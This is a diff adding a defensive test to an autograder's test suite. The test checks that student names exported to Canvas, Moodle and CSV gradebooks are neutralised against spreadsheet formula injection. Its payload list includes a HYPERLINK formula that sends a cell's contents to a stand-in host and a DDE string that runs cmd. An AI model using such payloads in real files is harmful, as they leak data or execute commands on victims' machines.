@@ -232,3 +232,47 @@ def test_gradescope_runner_writes_a_checked_result_itself(tmp_path):
     assert on_disk == written
     assert on_disk["score"] == sum(t["score"] for t in on_disk["tests"]) <= sum(t["max_score"] for t in on_disk["tests"])
     assert not list((tmp_path / "results").glob(".results.*"))
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\uff1dSUM(1)"]
+
+
+def _assert_no_formula_cell(path: Path) -> list[list[str]]:
+    from grader.fileio import FORMULA_STARTS
+
+    rows = read_rows(path)
+    for row in rows:
+        for cell in row:
+            try:
+                float(cell)
+                continue  # a number is never run
+            except ValueError:
+                assert not cell.startswith(FORMULA_STARTS), f"{path.name}: a spreadsheet runs {cell!r}"
+    return rows
+
+
+def test_student_names_never_reach_a_spreadsheet_as_formulas(tmp_path):
+    """Folder names (LMS archive names) and roster names (students edit them in Moodle) land in the staff's
+    CSVs: each is written with a leading apostrophe, the text otherwise intact; scores stay numbers."""
+    from grader.batch import write_gradebook
+    from grader.lms import export_gradebook
+
+    out = tmp_path / "reports"
+    folders = ["plain", "=1+1", "-cmd", "@x"]
+    for name in folders:
+        save_result(fake_result(name, (1.0, 0.5)), out)
+    roster = tmp_path / "roster.csv"
+    with open(roster, "w", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["folder", "name", "id", "email"])
+        for i, (folder, name) in enumerate(zip(folders, FORMULAS)):
+            w.writerow([folder, name, str(1000 + i), "a@example.edu"])
+    gradebook = _assert_no_formula_cell(write_gradebook(out))
+    assert sorted(r[0] for r in gradebook[1:]) == sorted(["plain", "'=1+1", "'-cmd", "'@x"])
+    assert {r[2] for r in gradebook[1:]} == {"1.5"}
+    canvas = _assert_no_formula_cell(export_gradebook(out, "canvas", roster))
+    assert sorted(r[0] for r in canvas[2:]) == sorted("'" + n for n in FORMULAS[:4])
+    assert {r[1] for r in canvas[2:]} == {"1000", "1001", "1002", "1003"} and {r[-1] for r in canvas[2:]} == {"1.5"}
+    moodle = _assert_no_formula_cell(export_gradebook(out, "moodle", roster))
+    assert {r[0] for r in moodle[1:]} == {f"Participant {1000 + i}" for i in range(4)}  # what Moodle matches on
+    _assert_no_formula_cell(export_gradebook(out, "csv", roster))
